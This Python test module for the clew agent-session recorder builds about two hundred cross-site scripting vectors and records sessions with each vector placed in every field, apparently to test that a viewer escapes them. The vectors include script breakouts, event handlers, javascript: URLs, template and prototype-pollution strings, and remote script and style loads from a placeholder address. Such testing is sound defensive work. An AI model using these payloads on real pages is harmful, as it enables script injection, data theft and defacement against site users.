"""Texts that would run in a page that takes data for code, and a recorder that puts them into every field it takes.

Two hundred of them: markup in every context a page has (elements, attributes, addresses, styles, scripts, comments,
templates), in several writings, and what breaks out of JSON inside a document. Each calls :data:`FIRED` by one way or
another, which a page under test watches, or opens a dialog, asks for an address or changes the document.
"""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING, Any

import clew
from clew.model.usage import Usage
from clew.record.action import Action

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from clew.record.turn import TurnRecorder

FIRED = "clewFired"
"""The function of a page that every vector tries to call."""

_CALL = f"window.{FIRED}&&{FIRED}()"
_SAY = "alert(1)"

_HANDLERS = {
    "img": ("src=x", ("onerror",)),
    "svg": ("", ("onload", "onbegin")),
    "body": ("", ("onload", "onpageshow", "onfocus")),
    "video": ("src=x", ("onerror", "onloadstart")),
    "audio": ("src=x", ("onerror",)),
    "iframe": ("", ("onload",)),
    "input": ("autofocus", ("onfocus", "onblur")),
    "select": ("autofocus", ("onfocus",)),
    "textarea": ("autofocus", ("onfocus",)),
    "details": ("open", ("ontoggle",)),
    "marquee": ("", ("onstart", "onfinish")),
    "div": ("style=animation-name:x", ("onanimationstart", "onmouseover", "onpointerenter", "onclick")),
    "a": ("href=# tabindex=0", ("onmouseover", "onfocus", "onclick")),
    "object": ("data=x", ("onerror",)),
    "embed": ("src=x", ("onload",)),
    "link": ("rel=stylesheet href=x", ("onerror",)),
    "style": ("", ("onload",)),
    "form": ("", ("onsubmit", "onreset")),
    "button": ("autofocus", ("onfocus", "onclick")),
    "dialog": ("open", ("oncancel",)),
}

_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_SAY}",
    f"java&#10;script:{_CALL}",
)
_HOLDERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    "[x]({})",
)
_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt >{_SAY}</sCrIpT>",
    f"</script><script>{_CALL}</script>",
    "<script src=//192.0.2.1/x.js></script>",
    f"<script type=module>{_CALL}</script>",
    f"<script>{_SAY}//",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt>{_SAY}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f"</title><script>{_SAY}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_SAY}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href=data:,{_SAY} />",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<template><script>{_CALL}</script></template>",
    f"<!--<script>{_CALL}-->",
    f"\u2028<script>{_CALL}</script>\u2029",
)
_BROKEN_OUT = (
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"`><img src=x onerror={_CALL}>",
    f'" onmouseover="{_CALL}" x="',
    f"' onfocus='{_CALL}' autofocus x='",
    f'"}}</script><script>{_CALL}</script>',
    f'\\"-{_CALL}//',
    f"\\'-{_CALL}//",
    f"</script\n><script>{_SAY}</script>",
    f"${{{_CALL}}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"{{@html '<img src=x onerror={_CALL}>'}}",
    f"<%= {_CALL} %>",
    f"#{{{_CALL}}}",
    f"${{7*7}}{{{{7*7}}}}<img src=x onerror={_SAY}>",
    "__proto__",
    "constructor",
    "toString",
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={_CALL}>"}}}}',
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\x00<script>{_CALL}</script>",
    f"\x1b]8;;javascript:{_CALL}\x07x\x1b]8;;\x07",
    f"+ADw-script+AD4-{_SAY}+ADw-/script+AD4-",
)
_STYLES = (
    "<style>@import'//192.0.2.1/x.css';</style>",
    "<style>*{background:url(//192.0.2.1/x)}</style>",
    "<div style=background:url(//192.0.2.1/x)>x</div>",
    f"<div style=width:expression({_SAY})>x</div>",
    "<link rel=stylesheet href=//192.0.2.1/x.css>",
    "<img src=//192.0.2.1/x.png srcset=//192.0.2.1/y.png>",
    "<img src=x style=position:fixed;inset:0>",
    "}*{display:none}",
    "</style><style>*{display:none}</style>",
    "<svg><style>*{display:none}</style></svg>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<input type=image src=//192.0.2.1/x.png>",
    "<video poster=//192.0.2.1/x.png></video>",
    "<audio src=//192.0.2.1/x autoplay></audio>",
    "<object data=//192.0.2.1/x></object>",
)


def _every() -> Iterator[str]:
    yield from _SCRIPTS
    yield from _BROKEN_OUT
    yield from _STYLES
    for tag, (more, events) in _HANDLERS.items():
        for event in events:
            yield f"<{tag} {more} {event}={_CALL}>".replace("  ", " ")
            yield f"<{tag}/{more}/{event}='{_SAY}'>"
    for holder, address in product(_HOLDERS, _ADDRESSES):
        yield holder.format(address)


VECTORS: tuple[str, ...] = tuple(dict.fromkeys(_every()))[:200]
"""Two hundred different ones."""


def spread(count: int) -> list[str]:
    """So many of them, from all kinds."""
    return [VECTORS[at * len(VECTORS) // count] for at in range(count)]


def record(folder: Path, vectors: Sequence[str]) -> list[str]:
    """Record one session for each vector, with the vector in every field that the recorder takes. Gives their ids."""
    return [_record(folder, vector) for vector in vectors]


def _record(folder: Path, text: str) -> str:
    usage = Usage(input_tokens=5, output_tokens=1)
    said: dict[str, Any] = {"agent_id": text, "title": text, "model": text, "system_prompt": text, "tags": (text,)}
    with clew.session(**said, dir=folder, sync="never") as session:
        session.config(tools=[{"name": text, "description": text}], prompts={text: text}, providers=[{"name": text}])
        session.set(latest_status=text, attributes={text: text})
        session.log(text, text, "WRN", **{text: text})
        with session.step("compaction", text, action=Action("command", text, text), attributes={text: text}) as step:
            step.log("test.vector", text, "WRN")
        with session.turn(action=Action("message", text, text), attributes={text: text}) as turn:
            turn.outcome(text)
            _attempts(turn, text, usage)
            _calls(turn, text)
            turn.fail(text)
        session.final_report({"format": text, "content": text, text: text})
        session.fail(text, text)
    return session.session_id


def _attempts(turn: TurnRecorder, text: str, usage: Usage) -> None:
    """A failed attempt, a rejected one, and one that speaks in every kind of block."""
    request = {"model": text, "system": text, "messages": [{"role": "user", "content": text}], text: text}
    with turn.attempt(provider=text, model=text, request=request) as attempt:
        attempt.fail(text, slug=text, http_status=500, response=text)
        attempt.backoff(10)
    with turn.attempt(provider=text, model=text, request=request, attributes={text: text}) as attempt:
        attempt.chunk(text, text)
        attempt.respond({"content": text}, usage=usage, stop_reason=text, text=text, reasoning=text, model=text)
        attempt.reject(text, text, **{text: text})
    image = {"type": "image", "source": {"type": "base64", "media_type": text, "data": text}}
    blocks = [
        {"type": "text", "text": text},
        {"type": "thinking", "thinking": text},
        {"type": "tool_use", "id": text, "name": text, "input": {text: text}},
        image,
        {"type": "document", "title": text, "source": {"media_type": text}},
        {"type": text, text: text},
    ]
    result = {"type": "tool_result", "tool_use_id": text, "content": text, "is_error": True}
    messages = [*request["messages"], {"role": "assistant", "content": blocks}, {"role": text, "content": [result]}]
    with turn.attempt(provider=text, model=text, request={**request, "messages": messages}) as attempt:
        attempt.respond({"role": text, "content": blocks}, usage=usage, stop_reason=text, model=text)


def _calls(turn: TurnRecorder, text: str) -> None:
    """A call that failed, and one that started a session."""
    with turn.tool(text, {text: text}, command=text, call_id=text, attributes={text: text}) as tool:
        tool.log(text, text, "ERR", **{text: text})
        tool.fail(text, slug=text, response=text, accounting={text: text})
    with (
        turn.tool(text, text, kind="agent") as tool,
        tool.child(text, title=text) as below,
        below.turn(user_input=text) as inner,
    ):
        inner.fail(text)
